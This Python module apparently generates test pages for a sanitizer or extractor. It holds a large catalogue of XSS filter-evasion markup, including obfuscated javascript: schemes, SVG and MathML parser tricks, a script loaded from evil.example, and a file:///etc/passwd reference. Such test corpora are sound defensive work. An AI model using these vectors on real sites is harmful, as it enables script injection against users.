"""Attacks written from the published classes of them: handlers, schemes, parsers, CSS, SVG, MathML.

Classes after OWASP's XSS filter evasion page and the HTML5 Security list; the strings are
generated here.
Each payload, were it to run, would set the title of the page to `PWNED`.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass
from html import escape
from pathlib import Path

PAYLOAD = "document.title='PWNED'"


@dataclass(frozen=True, slots=True)
class Vector:
    """One attack, to be put into the body of an article."""

    name: str
    markup: str


_HANDLERS = (Path(__file__).parent / "handlers.txt").read_text("utf-8").split()

_HOSTS = (
    "img src=x",
    "p",
    "a href=#",
    "svg",
    "details open",
    "input autofocus",
    "marquee",
    "video src=x",
)

_SCHEMES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "  javascript:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "java\rscript:{}",
    "\x01javascript:{}",
    "&#106;avascript:{}",
    "&#x6a;&#x61;vascript:{}",
    "&#0000106avascript:{}",
    "java&Tab;script:{}",
    "java&NewLine;script:{}",
    "javascript&colon;{}",
    "javascript://%0a{}",
    "javascript:/*--></title></style></script>*/{}",
    "vbscript:{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5kb2N1bWVudC50aXRsZT0nUFdORUQnPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload=\"{}\"/>",
    "feed:javascript:{}",
    "view-source:javascript:{}",
    "jar:javascript:{}!/",
    "livescript:{}",
    "mocha:{}",
    "blob:javascript:{}",
    "filesystem:javascript:{}",
    "file:///etc/passwd",
    "\u2028javascript:{}",
)

_URL_PLACES = (
    '<a href="{}">link</a>',
    '<img src="{}" alt="x">',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button>go</button></form>',
    '<button formaction="{}">go</button>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<svg><a xlink:href="{}"><text>t</text></a></svg>',
    '<math href="{}"><mi>x</mi></math>',
    '<video poster="{}" src="{}"></video>',
    '<blockquote cite="{}">q</blockquote>',
    '<area href="{}">',
)

_SCRIPTS = (
    "<script>{}</script>",
    "<SCRIPT>{}</SCRIPT>",
    "<script/x>{}</script>",
    "<script\n>{}</script\n>",
    "<<script>{}//<</script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>{}</script>",
    "<svg><script>{}</script></svg>",
    "<svg><script href='data:text/javascript,{}'/></svg>",
    "<math><script>{}</script></math>",
    "<template><script>{}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={}>"></noscript>',
    "<style><style/><img src=x onerror={}></style>",
    "<title><img src=x onerror={}></title>",
    "<textarea><img src=x onerror={}></textarea>",
    "<xmp><img src=x onerror={}></xmp>",
    "<listing>&lt;img src=x onerror={}&gt;</listing>",
    "<plaintext><img src=x onerror={}>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe srcdoc='&lt;script&gt;{}&lt;/script&gt;'></iframe>",
    "<object data='data:text/html,<script>{}</script>'></object>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='javascript:{}//'><a href='x'>y</a>",
    "<link rel=import href='data:text/html,<script>{}</script>'>",
    "<link rel=stylesheet href='data:text/css,*{{background:url(javascript:{})}}'>",
    "<isindex action=javascript:{} type=image>",
    "<applet code='javascript:{}'></applet>",
    "<bgsound src='javascript:{}'>",
    "<layer src='javascript:{}'></layer>",
    "<xml id=x><i><b>&lt;img src=x onerror={}&gt;</b></i></xml>",
    "<!--<img src='--><img src=x onerror={}//'>",
    "<!--[if gte IE 4]><script>{}</script><![endif]-->",
    "<![CDATA[<img src=x onerror={}>]]>",
    "<?xml-stylesheet href='javascript:{}'?><p>x</p>",
    '<div style="background:url(javascript:{})">x</div>',
    '<div style="width:expression({})">x</div>',
    '<div style="-moz-binding:url(data:text/xml,{})">x</div>',
    '<div style="behavior:url(#default#time2)" onbegin={}>x</div>',
    "<style>@import 'javascript:{}';</style>",
    "<style>body{{background:url('javascript:{}')}}</style>",
    "<svg><animate onbegin={} attributeName=x dur=1s></svg>",
    "<svg><set attributeName=onmouseover to={}></svg>",
    "<svg><a><animate attributeName=href values='javascript:{}'/><text>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' "
    "onload='{}'/>#x\"/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{}</script>'/></foreignObject></svg>",
    "<svg><image href='javascript:{}'/></svg>",
    "<svg><image href=x onerror={}></svg>",
    "<svg><desc><img src=x onerror={}></desc></svg>",
    "<svg><title><style><img src=x onerror={}></style></title></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror={}>">',
    "<math><maction actiontype=statusline xlink:href='javascript:{}'>x</maction></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror={}></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><img src=x "
    "onerror={}></style></mglyph></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={}>",
    "<form id=x><input name=attributes><input name=parentNode></form><img name=body src=x "
    "onerror={}>",
    "<a id=defaultView><a id=defaultView name=title href='cid:{}'>x</a>",
    "<div data-bind=\"value:{}\" ng-app ng-csp>{{{{constructor.constructor('{}')()}}}}</div>",
    '<p v-on:click="{}" @click="{}" x-on:load="{}">x</p>',
    "<img src=x:x onerror\n=\n{}>",
    "<img src=x onerror\x0c={}>",
    "<img/src=x/onerror={}>",
    "<img src=`x` onerror=`{}`>",
    "<img src=x onerror&#61;{}>",
    "<img src=x title='>' onerror={}>",
    '<img """><script>{}</script>">',
    "<body onload={}>x",
    "<frameset onload={}><frame src=x></frameset>",
    "<table background='javascript:{}'><tr><td background='javascript:{}'>x</table>",
    "<input type=image src=x onerror={}>",
    "<keygen autofocus onfocus={}>",
    "<select autofocus onfocus={}><option>x</select>",
    "<audio src=x onerror={}></audio>",
    "<video><source onerror={}></video>",
    "<picture><source srcset='javascript:{}'><img src=x onerror={}></picture>",
    "<a ping='javascript:{}' href='https://example.org/'>x</a>",
    "<portal src='javascript:{}'></portal>",
    "<dialog open onclose={}><form method=dialog><button autofocus>x</form></dialog>",
    "<slot onslotchange={}></slot>",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
)


def vectors() -> Iterator[Vector]:
    """Yield every attack."""
    for number, handler in enumerate(_HANDLERS):
        host = _HOSTS[number % len(_HOSTS)]
        yield Vector(f"on{handler}", f'<{host} on{handler}="{PAYLOAD}">x</{host.split()[0]}>')
        yield Vector(f"ON{handler}/", f"<{host}/ON{handler.title()}={PAYLOAD}>x")
    for place in _URL_PLACES:
        for scheme in _SCHEMES:
            url = scheme.format(PAYLOAD).replace('"', "&quot;")
            yield Vector(f"{place.split()[0]} {scheme[:18]!r}", place.replace("{}", url))
    for number, pattern in enumerate(_SCRIPTS):
        payload = PAYLOAD if "'" not in pattern else escape(PAYLOAD.replace("'", "`"))
        yield Vector(f"script {number}", pattern.format(*[payload] * 3))


def page(markup: str) -> bytes:
    """Return an article of honest prose with the markup in the middle of it."""
    honest = "<p>The council met on Thursday, and the minutes run to four dull pages of prose.</p>"
    head = '<head><meta charset="utf-8"><title>Minutes</title></head>'
    body = f"<h1>Minutes</h1>{honest * 4}<div>{markup}</div>{honest * 3}"
    text = f'<!DOCTYPE html><html lang="en">{head}<body><article>{body}</article></body></html>'
    return text.encode("utf-8", "replace")


def field_page(said: str) -> bytes:
    """Return an article each of whose fields says something: title, byline, bio, caption, data."""
    text = escape(said)
    data = json.dumps({
        "@type": "NewsArticle", "headline": said, "author": {"@type": "Person", "name": said},
        "publisher": {"name": said}, "description": said, "keywords": [said],
    }).replace("<", "\\u003c")  # fmt: skip
    honest = "<p>The council met on Thursday, and the minutes run to four dull pages of prose.</p>"
    head = (
        f"<meta charset=utf-8><title>{text}</title><meta name=author content='{text}'>"
        f"<meta property='og:site_name' content='{text}'><meta name=keywords content='{text}'>"
        f"<meta property='article:section' content='{text}'>"
        f"<meta name=description content='{text}'>"
        f"<script type='application/ld+json'>{data}</script>"
    )
    body = (
        f"<h1>{text}</h1><p class=byline>By {text}</p>{honest * 3}<h2 id='{text}'>{text}</h2>"
        f"<figure><img src='x.png' alt='{text}' title='{text}'><figcaption>{text}</figcaption>"
        f"</figure><p class='{text}'>{text} <a href='#' title='{text}'>{text}</a></p>"
        f"<pre><code class='language-{text}'>{text}</code></pre>{honest * 3}"
        f"<table><caption>{text}</caption><tr><th>{text}<td>{text}</table>"
        f"<div class=author-bio><p>Ann Lee is a writer. {text}</p></div>"
        f"<p class=disclaimer>Disclaimer: the views are her own. {text}</p>"
    )
    page = f'<!DOCTYPE html><html lang="en"><head>{head}</head><body><article>{body}</article>'
    return page.encode("utf-8", "replace")
